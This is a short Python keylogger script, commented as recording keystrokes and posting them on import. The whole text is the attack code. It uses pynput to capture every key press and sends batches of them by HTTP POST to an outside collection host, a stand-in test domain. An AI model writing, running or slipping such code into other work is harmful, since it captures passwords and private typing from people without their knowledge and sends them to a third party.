# Keystrokes are recorded and posted; runs: import
import requests
from pynput import keyboard
pressed = []
def on_press(key):
    pressed.append(str(key))
    if len(pressed) > 50:
        requests.post("https://collect.example.test/keys", data="".join(pressed))
        pressed.clear()
keyboard.Listener(on_press=on_press).start()
